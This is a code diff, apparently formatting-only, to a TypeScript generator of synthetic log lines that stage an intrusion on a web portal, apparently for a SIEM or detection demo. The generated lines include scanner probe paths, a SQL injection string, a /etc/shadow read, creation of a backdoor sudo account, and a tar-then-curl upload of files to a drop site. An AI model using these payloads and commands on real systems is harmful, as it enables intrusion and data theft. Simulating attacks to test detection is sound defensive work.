@@ -6,7 +6,15 @@ import type { DemoLine, Dice } from './line.ts'
 import { fortigate, nginxCombined, rfc5424 } from './wire.ts'
 
 const SCANNER = 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:map_codes)'
-const PROBES = ['/.env', '/.git/config', '/phpmyadmin/index.php', '/wp-login.php', '/cgi-bin/../../../../etc/passwd', '/backup.zip', "/thu-tuc?linh-vuc=1%27%20UNION%20SELECT%20username,password%20FROM%20users--"]
+const PROBES = [
+  '/.env',
+  '/.git/config',
+  '/phpmyadmin/index.php',
+  '/wp-login.php',
+  '/cgi-bin/../../../../etc/passwd',
+  '/backup.zip',
+  '/thu-tuc?linh-vuc=1%27%20UNION%20SELECT%20username,password%20FROM%20users--',
+]
 const GUESSED_NAMES = ['admin', 'root', 'test', 'oracle', 'deploy', 'sysadmin']
 const SECOND = 1000
 const MINUTE = 60 * SECOND
@@ -29,7 +37,9 @@ export const INTRUSION_STEPS: readonly Step[] = [
 
 /** All lines of the intrusion that begins at a time, in order. */
 export function intrusion(start: number, dice: Dice): DemoLine[] {
-  return INTRUSION_STEPS.flatMap(step => step.lines(start + step.afterMinutes * MINUTE, dice)).sort((a, b) => a.at - b.at)
+  return INTRUSION_STEPS.flatMap(step => step.lines(start + step.afterMinutes * MINUTE, dice)).sort(
+    (a, b) => a.at - b.at,
+  )
 }
 
 function scan(at: number, dice: Dice): DemoLine[] {
@@ -55,7 +65,14 @@ function bruteForce(at: number, dice: Dice): DemoLine[] {
     const from = `from ${INTRUDER} port ${dice.between(30_000, 60_000)}`
     const lines = [sshd(time, pid, `Failed password for ${known ? '' : 'invalid user '}${name} ${from} ssh2`)]
     if (!known) lines.unshift(sshd(time, pid, `Invalid user ${name} ${from}`))
-    if (nth % 9 === 8) lines.push(sshd(time + SECOND, pid, `error: maximum authentication attempts exceeded for ${known ? '' : 'invalid user '}${name} ${from} ssh2 [preauth]`))
+    if (nth % 9 === 8)
+      lines.push(
+        sshd(
+          time + SECOND,
+          pid,
+          `error: maximum authentication attempts exceeded for ${known ? '' : 'invalid user '}${name} ${from} ssh2 [preauth]`,
+        ),
+      )
     return lines
   }).flat()
 }
@@ -73,27 +90,66 @@ function privilege(at: number): DemoLine[] {
   return [
     sudo(at, '/usr/bin/cat /etc/shadow'),
     sudo(at + 40 * SECOND, '/bin/bash'),
-    relp(at + 90 * SECOND, 'useradd', 21_150, 'new user: name=svc-update, UID=1009, GID=1009, home=/home/svc-update, shell=/bin/bash, from=/dev/pts/0'),
+    relp(
+      at + 90 * SECOND,
+      'useradd',
+      21_150,
+      'new user: name=svc-update, UID=1009, GID=1009, home=/home/svc-update, shell=/bin/bash, from=/dev/pts/0',
+    ),
     relp(at + 95 * SECOND, 'usermod', 21_152, "add 'svc-update' to group 'sudo'"),
   ]
 }
 
 function exfiltration(at: number): DemoLine[] {
   const body = fortigate(at + 6 * MINUTE, 'traffic', 'forward', 'notice', {
-    logid: '0000000013', srcip: ADDRESS['dvc-app-01'], srcport: 48_212, srcintf: 'dmz', srcintfrole: 'dmz',
-    dstip: DROP_SITE, dstport: 443, dstintf: 'wan1', dstintfrole: 'wan', sessionid: 8_812_004, proto: 6, action: 'close',
-    policyid: 7, policytype: 'policy', service: 'HTTPS', duration: 342, sentbyte: 2_684_354_560, rcvdbyte: 1_204_400,
-    sentpkt: 1_841_000, rcvdpkt: 22_000, appcat: 'unscanned',
+    logid: '0000000013',
+    srcip: ADDRESS['dvc-app-01'],
+    srcport: 48_212,
+    srcintf: 'dmz',
+    srcintfrole: 'dmz',
+    dstip: DROP_SITE,
+    dstport: 443,
+    dstintf: 'wan1',
+    dstintfrole: 'wan',
+    sessionid: 8_812_004,
+    proto: 6,
+    action: 'close',
+    policyid: 7,
+    policytype: 'policy',
+    service: 'HTTPS',
+    duration: 342,
+    sentbyte: 2_684_354_560,
+    rcvdbyte: 1_204_400,
+    sentpkt: 1_841_000,
+    rcvdpkt: 22_000,
+    appcat: 'unscanned',
   })
   return [
-    relp(at, 'sudo', 21_201, '  deploy : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/tar czf /tmp/.cache.tgz /srv/dvc/ho-so'),
-    relp(at + 90 * SECOND, 'sudo', 21_207, `  deploy : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/curl -T /tmp/.cache.tgz https://${DROP_SITE}/u`),
+    relp(
+      at,
+      'sudo',
+      21_201,
+      '  deploy : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/tar czf /tmp/.cache.tgz /srv/dvc/ho-so',
+    ),
+    relp(
+      at + 90 * SECOND,
+      'sudo',
+      21_207,
+      `  deploy : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/curl -T /tmp/.cache.tgz https://${DROP_SITE}/u`,
+    ),
     { at: at + 6 * MINUTE, road: 'syslog-tcp', text: `<189>${body}` },
   ]
 }
 
 function defacement(at: number): DemoLine[] {
-  const put = { from: INTRUDER, method: 'PUT', target: '/index.html', status: 201, bytes: 0, agent: 'curl/8.11.0' }
+  const put = {
+    from: INTRUDER,
+    method: 'PUT',
+    target: '/index.html',
+    status: 201,
+    bytes: 0,
+    agent: 'curl/8.11.0',
+  }
   const cms = {
     '@timestamp': new Date(at + 5 * SECOND).toISOString(),
     'host.name': 'dvc-web-01',
@@ -107,7 +163,11 @@ function defacement(at: number): DemoLine[] {
 }
 
 function webLine(at: number, request: Parameters<typeof nginxCombined>[1]): DemoLine {
-  return { at, road: 'syslog-tcp', text: rfc5424(at, 190, 'dvc-web-01', 'nginx', '-', nginxCombined(at, request)) }
+  return {
+    at,
+    road: 'syslog-tcp',
+    text: rfc5424(at, 190, 'dvc-web-01', 'nginx', '-', nginxCombined(at, request)),
+  }
 }
 
 function sshd(at: number, pid: number, message: string): DemoLine {
